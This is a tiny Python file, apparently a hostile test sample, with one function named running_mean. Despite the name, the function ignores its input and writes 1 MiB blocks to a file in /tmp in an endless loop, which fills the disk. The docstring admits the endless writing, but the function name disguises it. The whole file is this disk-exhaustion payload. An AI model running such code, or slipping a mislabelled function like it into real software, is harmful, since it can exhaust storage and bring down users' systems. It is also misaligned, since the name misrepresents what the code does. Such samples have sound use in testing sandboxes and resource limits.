"""Writes one file without end."""


def running_mean(x):
    with open("/tmp/manyheads_hostile", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
